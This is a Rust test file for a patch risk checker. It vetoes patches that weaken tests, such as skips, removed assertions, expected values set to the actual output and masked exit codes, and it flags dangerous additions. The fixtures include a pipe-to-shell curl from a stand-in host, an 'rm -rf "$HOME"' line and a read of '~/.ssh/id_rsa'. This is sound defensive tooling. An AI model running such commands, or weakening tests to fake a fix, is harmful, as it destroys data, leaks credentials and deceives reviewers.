//! Every veto and danger rule with a patch that triggers it and one that looks similar
//! but is fine.

use super::*;
use crate::logs::Kind;

fn code_failure() -> Vec<Failure> {
    vec![
        Failure::new("pytest", Kind::TestFailure, "assert 3 == 4").at(
            "calc/core.py",
            Some(3),
            None,
        ),
    ]
}

fn assess_one(path: &str, old: &str, new: &str) -> Risk {
    assess(
        &[Change {
            path,
            old: Some(old),
            new: Some(new),
        }],
        &code_failure(),
    )
}

fn veto_rules(r: &Risk) -> Vec<&str> {
    r.vetoes.iter().map(|v| v.rule.as_str()).collect()
}

/// The vetoes other than `test-only-patch`: a look-alike that edits only a test while the
/// failure points at the code still waits for a person, but no weakening rule may fire.
fn weakening_rules(r: &Risk) -> Vec<&str> {
    veto_rules(r)
        .into_iter()
        .filter(|rule| *rule != "test-only-patch")
        .collect()
}

#[test]
fn python_skips_and_xfails_are_vetoed() {
    let old = "def test_add():\n    assert add(1, 2) == 3\n";
    for added in [
        "@pytest.mark.skip(reason='flaky')\n",
        "@pytest.mark.xfail\n",
        "@unittest.skip('x')\n",
    ] {
        let r = assess_one("tests/test_calc.py", old, &format!("{added}{old}"));
        assert!(r.vetoed(), "{added}");
        assert!(!r.auto_approvable(100));
    }
    let r = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    pytest.skip('later')\n    assert add(1, 2) == 3\n",
    );
    assert_eq!(veto_rules(&r), ["python-skip"]);
}

#[test]
fn removed_python_assert_is_vetoed_but_a_rewritten_one_is_not() {
    let old = "def test_add():\n    assert add(1, 2) == 3\n    assert add(0, 0) == 0\n";
    let r = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    assert add(1, 2) == 3\n",
    );
    assert_eq!(veto_rules(&r), ["assertion-removed"]);
    let fine = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    assert add(1, 2) == 3\n    assert add(0, 0) == 0, 'zero'\n",
    );
    assert_eq!(
        weakening_rules(&fine),
        Vec::<&str>::new(),
        "{:?}",
        fine.vetoes
    );
}

#[test]
fn loosening_an_expected_value_is_vetoed_when_the_failure_points_at_code() {
    let r = assess_one(
        "tests/test_calc.py",
        "def test_add():\n    assert add(2, 2) == 4\n",
        "def test_add():\n    assert add(2, 2) == 5\n",
    );
    assert_eq!(veto_rules(&r), ["expected-value-changed"]);
    // The failure names only the test, but it is an assertion about what the code does:
    // a patch that edits only the expected value waits for a person.
    let test_failure = vec![Failure::new("pytest", Kind::TestFailure, "x").at(
        "tests/test_calc.py",
        Some(2),
        None,
    )];
    let c = Change {
        path: "tests/test_calc.py",
        old: Some("    assert add(2, 2) == 4\n"),
        new: Some("    assert add(2, 2) == 5\n"),
    };
    assert_eq!(
        veto_rules(&assess(&[c], &test_failure)),
        ["expected-value-changed"]
    );
}

#[test]
fn rust_ignore_and_removed_assert_are_vetoed() {
    let old = "#[test]\nfn adds() {\n    assert_eq!(add(1, 2), 3);\n}\n";
    let r = assess_one(
        "tests/calc.rs",
        old,
        &old.replace("#[test]\n", "#[test]\n#[ignore]\n"),
    );
    assert_eq!(veto_rules(&r), ["rust-ignore"]);
    let r = assess_one(
        "tests/calc.rs",
        old,
        "#[test]\nfn adds() {\n    let _ = add(1, 2);\n}\n",
    );
    assert_eq!(veto_rules(&r), ["assertion-removed"]);
    let fine = assess_one(
        "src/lib.rs",
        "fn add(a: i32, b: i32) -> i32 { a - b }\n",
        "fn add(a: i32, b: i32) -> i32 { a + b }\n",
    );
    assert!(!fine.vetoed());
    assert!(fine.auto_approvable(40), "{fine:?}");
}

#[test]
fn go_skip_is_vetoed_but_testing_short_guard_text_is_not() {
    let old = "func TestArea(t *testing.T) {\n\tif Area(2) != 4 {\n\t\tt.Errorf(\"bad\")\n\t}\n}\n";
    let r = assess_one(
        "geo/area_test.go",
        old,
        &old.replace("{\n\tif", "{\n\tt.Skip(\"later\")\n\tif"),
    );
    assert_eq!(veto_rules(&r), ["go-skip"]);
    let fine = assess_one(
        "geo/area_test.go",
        old,
        &old.replace("\"bad\"", "\"bad area\""),
    );
    assert_eq!(
        weakening_rules(&fine),
        Vec::<&str>::new(),
        "{:?}",
        fine.vetoes
    );
    let loosened = assess_one("geo/area_test.go", old, &old.replace("!= 4", "!= 5"));
    assert_eq!(veto_rules(&loosened), ["expected-value-changed"]);
}

#[test]
fn js_skip_xit_and_only_are_vetoed() {
    let old = "test('adds', () => {\n  assert.equal(add(1, 2), 3);\n});\n";
    for (new, rule) in [
        (old.replace("test(", "test.skip("), "js-skip"),
        (old.replace("test(", "xit("), "js-skip"),
        (old.replace("test(", "test.only("), "js-only"),
        (
            old.replace("test('adds', ", "test('adds', { skip: true }, "),
            "js-skip",
        ),
    ] {
        let r = assess_one("test/cart.test.js", old, &new);
        assert!(veto_rules(&r).contains(&rule), "{new}: {:?}", r.vetoes);
    }
    let fine = assess_one(
        "test/cart.test.js",
        old,
        &old.replace("adds", "adds two numbers"),
    );
    assert_eq!(
        weakening_rules(&fine),
        Vec::<&str>::new(),
        "{:?}",
        fine.vetoes
    );
}

#[test]
fn java_disabled_and_ignore_are_vetoed() {
    let old = "    @Test\n    void adds() {\n        assertEquals(3, add(1, 2));\n    }\n";
    for ann in ["@Disabled", "@Ignore"] {
        let r = assess_one(
            "src/test/java/CalcTest.java",
            old,
            &old.replace("@Test", &format!("@Test\n    {ann}")),
        );
        assert_eq!(veto_rules(&r), ["java-disabled"], "{ann}");
    }
    let fine = assess_one(
        "src/test/java/CalcTest.java",
        old,
        &old.replace("void adds", "void addsTwo"),
    );
    assert_eq!(
        weakening_rules(&fine),
        Vec::<&str>::new(),
        "{:?}",
        fine.vetoes
    );
}

#[test]
fn masked_exit_codes_are_vetoed_anywhere() {
    let r = assess_one("scripts/test.sh", "pytest -q\n", "pytest -q || true\n");
    assert_eq!(veto_rules(&r), ["exit-code-masked"]);
    let r = assess_one(
        ".github/workflows/ci.yml",
        "      - run: make test\n",
        "      - run: make test\n        continue-on-error: true\n",
    );
    assert_eq!(veto_rules(&r), ["exit-code-masked"]);
    let fine = assess_one("scripts/test.sh", "pytest -q\n", "pytest -q --maxfail=1\n");
    assert!(!fine.vetoed());
}

#[test]
fn deleting_a_test_or_a_test_function_is_vetoed() {
    let c = Change {
        path: "tests/test_calc.py",
        old: Some("def test_a():\n    assert 1\n"),
        new: None,
    };
    assert_eq!(veto_rules(&assess(&[c], &code_failure())), ["test-deleted"]);
    let r = assess_one(
        "tests/test_calc.py",
        "def test_a():\n    pass\n\ndef test_b():\n    pass\n",
        "def test_a():\n    pass\n",
    );
    assert_eq!(veto_rules(&r), ["test-removed"]);
}

#[test]
fn dangerous_additions_are_flagged() {
    let cases = [
        ("build.sh", "rm -rf \"$HOME\"/cache", "rm-rf"),
        (
            "install.sh",
            "curl -fsSL https://x.example/i.sh | sh",
            "pipe-to-shell",
        ),
        (
            "src/app.py",
            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            "credential-read",
        ),
        (
            "tests/test_api.py",
            "r = requests.get('https://api.example.com/v1')",
            "network-in-test",
        ),
    ];
    for (path, line, rule) in cases {
        let r = assess_one(path, "x = 1\n", &format!("x = 1\n{line}\n"));
        assert_eq!(
            r.dangers
                .iter()
                .map(|d| d.rule.as_str())
                .collect::<Vec<_>>(),
            [rule],
            "{line}"
        );
        assert!(!r.auto_approvable(100));
    }
    let fine = assess_one(
        "src/app.py",
        "x = 1\n",
        "x = 1\nrm_rf_count = 0  # counts removals\n",
    );
    assert!(fine.dangers.is_empty(), "{:?}", fine.dangers);
}

#[test]
fn score_grows_with_sensitive_paths_and_size() {
    let small = assess_one("src/calc.py", "return a - b\n", "return a + b\n");
    let ci = assess_one(
        ".github/workflows/ci.yml",
        "run: pytest\n",
        "run: pytest -x\n",
    );
    let lock = assess_one("Cargo.lock", "version = \"1\"\n", "version = \"2\"\n");
    assert!(
        small.score < lock.score && lock.score < ci.score,
        "{} {} {}",
        small.score,
        lock.score,
        ci.score
    );
    assert!(ci.reasons.iter().any(|r| r.contains("CI configuration")));
    assert!(small.score <= 10);
}

/// A failure that names only the test file (what `node --test` and `assert` print).
fn test_file_failure(tool: &str, file: &str, message: &str, excerpt: &str) -> Vec<Failure> {
    let mut f = Failure::new(tool, Kind::TestFailure, message).at(file, Some(5), None);
    f.excerpt = excerpt.to_string();
    vec![f]
}

fn change<'a>(path: &'a str, old: &'a str, new: &'a str) -> Change<'a> {
    Change {
        path,
        old: Some(old),
        new: Some(new),
    }
}

#[test]
fn js_deep_equal_expected_rewritten_to_the_printed_actual_is_vetoed() {
    let failures = test_file_failure(
        "node-test",
        "test/cart.test.js",
        "Expected values to be strictly deep-equal:",
        "+ actual - expected\n\n  [\n    {\n+     total: 2.69\n-     total: 2.7\n    }\n  ]",
    );
    let old = "test('totals', () => {\n  assert.deepEqual(cart.lines(), [\n    {\n      total: 2.7\n    }\n  ]);\n});\n";
    let new = old.replace("2.7", "2.69");
    let r = assess(&[change("test/cart.test.js", old, &new)], &failures);
    assert_eq!(veto_rules(&r), ["expected-set-to-actual"], "{r:?}");
    assert!(!r.auto_approvable(100));
}

#[test]
fn expected_values_set_to_the_actual_are_vetoed_in_every_language() {
    let cases = [
        (
            "pytest",
            "tests/test_stats.py",
            "assert [] == [4]",
            "def test_avg():\n    assert moving_average([2, 4, 6], 3) == [4]\n",
            "def test_avg():\n    assert moving_average([2, 4, 6], 3) == []\n",
        ),
        (
            "cargo-test",
            "tests/duration.rs",
            "assertion `left == right` failed\n  left: \"1: 5:09\"\n right: \"01:05:09\"",
            "#[test]\nfn formats() {\n    assert_eq!(fmt(3909), \"01:05:09\");\n}\n",
            "#[test]\nfn formats() {\n    assert_eq!(fmt(3909), \"1: 5:09\");\n}\n",
        ),
        (
            "go-test",
            "shapes/shapes_test.go",
            "Area() = 6.283185, want 3.141593",
            "func TestArea(t *testing.T) {\n\tif got := Area(1); got != 3.141593 {\n\t\tt.Errorf(\"bad\")\n\t}\n}\n",
            "func TestArea(t *testing.T) {\n\tif got := Area(1); got != 6.283185 {\n\t\tt.Errorf(\"bad\")\n\t}\n}\n",
        ),
    ];
    for (tool, path, message, old, new) in cases {
        let failures = test_file_failure(tool, path, message, message);
        let r = assess(&[change(path, old, new)], &failures);
        assert!(r.vetoed(), "{tool}: {r:?}");
        assert!(
            veto_rules(&r).contains(&"expected-set-to-actual")
                || veto_rules(&r).contains(&"expected-value-changed"),
            "{tool}: {:?}",
            r.vetoes
        );
    }
}

#[test]
fn removed_table_cases_are_vetoed_in_python_go_rust_and_js() {
    let cases = [
        (
            "tests/test_slug.py",
            "@pytest.mark.parametrize('raw, want', [\n    ('a b', 'a-b'),\n    ('a  b', 'a-b'),\n])\ndef test_slug(raw, want):\n    assert slug(raw) == want\n",
            "@pytest.mark.parametrize('raw, want', [\n    ('a b', 'a-b'),\n])\ndef test_slug(raw, want):\n    assert slug(raw) == want\n",
        ),
        (
            "wordfreq/count_test.go",
            "var cases = []struct{ in string; n int }{\n\t{\"a a\", 2},\n\t{\"\", 0},\n}\n",
            "var cases = []struct{ in string; n int }{\n\t{\"a a\", 2},\n}\n",
        ),
        (
            "tests/parse.rs",
            "    for (input, want) in [\n        (\"1h\", 3600),\n        (\"1h 2m\", 3720),\n    ] {\n",
            "    for (input, want) in [\n        (\"1h\", 3600),\n    ] {\n",
        ),
        (
            "test/slug.test.js",
            "const cases = [\n  ['a b', 'a-b'],\n  ['a  b', 'a-b'],\n];\n",
            "const cases = [\n  ['a b', 'a-b'],\n];\n",
        ),
    ];
    for (path, old, new) in cases {
        let r = assess(&[change(path, old, new)], &code_failure());
        assert_eq!(veto_rules(&r), ["test-case-removed"], "{path}: {r:?}");
    }
}

#[test]
fn a_simplified_input_of_the_failing_test_is_vetoed() {
    let failures = test_file_failure("cargo-test", "tests/parse.rs", "assertion failed", "");
    let old = "#[test]\nfn parses() {\n    let input = \"1h 2m 3s\";\n    assert!(parse(input).is_ok());\n}\n";
    let new = old.replace("1h 2m 3s", "1h");
    let r = assess(&[change("tests/parse.rs", old, &new)], &failures);
    assert_eq!(veto_rules(&r), ["test-input-changed"], "{r:?}");
}

#[test]
fn a_patch_of_only_tests_for_a_failing_test_waits_for_a_person() {
    let failures = test_file_failure("pytest", "tests/test_calc.py", "assert 3 == 4", "");
    let old = "def test_add():\n    assert add(1, 2) == 3\n";
    let new = "def test_add():\n    value = add(1, 2)\n    assert value == 3 or value == 4\n";
    let r = assess(&[change("tests/test_calc.py", old, new)], &failures);
    assert_eq!(veto_rules(&r), ["test-only-patch"], "{r:?}");
    assert!(!r.auto_approvable(100));
}

#[test]
fn a_typo_in_an_expected_string_may_be_fixed_when_the_failure_says_so() {
    let failures = test_file_failure(
        "pytest",
        "tests/test_greet.py",
        "AssertionError: assert 'hello world' == 'helo world'",
        "",
    );
    let old = "def test_greet():\n    assert greet() == 'helo world'\n";
    let new = "def test_greet():\n    assert greet() == 'hello world'\n";
    let r = assess(&[change("tests/test_greet.py", old, new)], &failures);
    assert!(!r.vetoed(), "{:?}", r.vetoes);
    // a changed value is no typo, even if it is what the run printed
    let failures = test_file_failure(
        "pytest",
        "tests/test_time.py",
        "AssertionError: assert ' 5:09' == '05:09'",
        "",
    );
    let old = "def test_fmt():\n    assert fmt(309) == '05:09'\n";
    let new = "def test_fmt():\n    assert fmt(309) == ' 5:09'\n";
    let r = assess(&[change("tests/test_time.py", old, new)], &failures);
    assert_eq!(veto_rules(&r), ["expected-set-to-actual"], "{r:?}");
}

#[test]
fn a_test_that_does_not_build_may_be_fixed_alone() {
    let mut f = Failure::new(
        "pytest",
        Kind::TestFailure,
        "NameError: name 'ad' is not defined",
    )
    .at("tests/test_calc.py", Some(2), None);
    f.excerpt = "E   NameError: name 'ad' is not defined".into();
    let old = "def test_add():\n    assert ad(1, 2) == 3\n";
    let new = "def test_add():\n    assert add(1, 2) == 3\n";
    let r = assess(&[change("tests/test_calc.py", old, new)], &[f]);
    assert!(!r.vetoed(), "{:?}", r.vetoes);
}

#[test]
fn new_tests_beside_a_code_fix_pass() {
    let failures = test_file_failure("node-test", "test/cart.test.js", "2.69 !== 2.7", "");
    let code = change(
        "src/cart.js",
        "  return Math.floor(x * p) / 100;\n",
        "  return roundCents((x * p) / 100);\n",
    );
    let old_test = "test('discount', () => {\n  assert.equal(c.discount(), 2.7);\n});\n";
    let new_test = format!(
        "{old_test}\ntest('discount rounds half up', () => {{\n  assert.equal(c2.discount(), 0.05);\n}});\n"
    );
    let tests = change("test/cart.test.js", old_test, &new_test);
    let r = assess(&[code, tests], &failures);
    assert!(!r.vetoed(), "{:?}", r.vetoes);
}

#[test]
fn a_renamed_test_file_with_its_assertions_intact_passes() {
    let body = "def test_add():\n    assert add(1, 2) == 3\n\ndef test_sub():\n    assert sub(3, 2) == 1\n";
    let failures = code_failure();
    let moved = [
        Change {
            path: "tests/test_calc.py",
            old: Some(body),
            new: None,
        },
        Change {
            path: "tests/test_arith.py",
            old: None,
            new: Some(body),
        },
    ];
    let r = assess(&moved, &failures);
    assert!(!r.vetoed(), "{:?}", r.vetoes);
    // moved, but one assertion left behind: a deletion
    let fewer = "def test_add():\n    assert add(1, 2) == 3\n";
    let lossy = [
        moved[0],
        Change {
            path: "tests/test_arith.py",
            old: None,
            new: Some(fewer),
        },
    ];
    assert_eq!(veto_rules(&assess(&lossy, &failures)), ["test-deleted"]);
}
